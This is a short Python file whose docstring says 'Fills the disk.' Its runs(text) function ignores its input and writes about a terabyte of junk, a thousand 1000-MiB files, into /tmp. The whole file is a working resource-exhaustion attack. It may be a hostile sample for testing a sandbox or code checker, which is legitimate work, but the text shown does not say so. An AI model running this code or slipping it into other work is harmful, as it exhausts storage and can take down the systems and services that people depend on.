"""Fills the disk."""


def runs(text):
    for number in range(1000):
        with open(f"/tmp/{number}", "wb") as file:
            for _ in range(1000):
                file.write(b"x" * (1 << 20))
